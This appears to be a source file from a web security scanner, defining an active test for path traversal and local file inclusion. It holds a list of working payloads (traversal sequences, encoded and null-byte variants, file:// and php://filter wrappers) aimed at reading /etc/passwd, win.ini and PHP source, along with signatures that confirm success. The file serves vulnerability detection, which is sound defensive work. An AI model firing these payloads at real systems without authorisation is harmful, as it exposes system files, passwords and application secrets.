// Path traversal and local file inclusion: the value names a file, and well-known files outside the application's
// directory (/etc/passwd, win.ini, the page's own source through php://filter) come back; the baseline must not
// already show the file's signature.
import { attempt, inject, pointFinding } from '../../inject.ts';
import type { WebTest } from '../../types.ts';

const PASSWD = /root:[x*]?:0:0:/;
const WIN_INI = /\[(?:fonts|extensions|mci extensions)\][\s\S]{0,200}(?:\[files\]|for 16-bit app support)/i;
/** php://filter's base64 of a PHP file: "<?php" encodes to "PD9waH". */
const PHP_B64 = /PD9waH[A-Za-z0-9+/]{20,}={0,2}/;

const UP = '../../../../../../../../';

/** Payloads and the signature each proves; {d} the value's directory prefix (kept for "files/x" style values). */
function payloads(value: string): { payload: string; sig: RegExp; file: string }[] {
  const dir = value.includes('/') ? value.slice(0, value.lastIndexOf('/') + 1) : '';
  const list = [
    { payload: `${UP}etc/passwd`, sig: PASSWD, file: '/etc/passwd' },
    { payload: '/etc/passwd', sig: PASSWD, file: '/etc/passwd' },
    { payload: `${dir}${UP}etc/passwd`, sig: PASSWD, file: '/etc/passwd' },
    { payload: `${'....//'.repeat(8)}etc/passwd`, sig: PASSWD, file: '/etc/passwd' },
    { payload: `${'..%2f'.repeat(8)}etc%2fpasswd`, sig: PASSWD, file: '/etc/passwd' },
    { payload: `${UP}etc/passwd\u0000.html`, sig: PASSWD, file: '/etc/passwd' },
    { payload: 'file:///etc/passwd', sig: PASSWD, file: '/etc/passwd' },
    { payload: `${'..\\'.repeat(8)}windows\\win.ini`, sig: WIN_INI, file: 'win.ini' },
    { payload: 'C:\\Windows\\win.ini', sig: WIN_INI, file: 'win.ini' },
  ];
  if (/\.php\b/i.test(value) || /^(page|file|include|inc|template|view)$/i.test(value))
    list.push({ payload: `php://filter/convert.base64-encode/resource=${value || 'index'}`, sig: PHP_B64, file: value });
  list.push({ payload: 'php://filter/convert.base64-encode/resource=index.php', sig: PHP_B64, file: 'index.php' });
  // The same payload twice (a value with no directory) is sent once.
  return list.filter((p, i) => list.findIndex((q) => q.payload === p.payload) === i);
}

export const pathTraversal: WebTest = {
  id: 'web-path-traversal',
  name: 'Path traversal / local file inclusion',
  category: 'path-traversal',
  severity: 4,
  cwe: ['CWE-22', 'CWE-98'],
  owasp: 'A01:2021',
  description:
    'The value is used as a file name without confining it to the directory it belongs to: "../" sequences or an ' +
    'absolute path read any file the application can read (configuration, keys, passwords), or include it as code.',
  solution:
    'Map request values to files through an allow-list or an identifier, never a path. If a name must be used, take its ' +
    'base name, resolve it and check that the result is inside the intended directory; disable PHP wrappers.',
  references: [
    'https://owasp.org/www-community/attacks/Path_Traversal',
    'https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/11.1-Testing_for_Local_File_Inclusion',
  ],
  kind: 'active',
  async point(point, ctx) {
    const base = await inject(point, point.value, ctx);
    for (const p of payloads(point.value)) {
      if (p.sig.test(base.body)) continue;
      const res = await attempt(point, p.payload, ctx);
      const m = res && p.sig.exec(res.body);
      if (!m) continue;
      return [
        pointFinding('web-path-traversal', point, res, {
          payload: p.payload,
          proof: `${p.file}: ${m[0].slice(0, 80)}`,
          around: p.sig,
          how: `contents of ${p.file} in the response`,
          confidence: 'confirmed',
        }),
      ];
    }
    return [];
  },
};
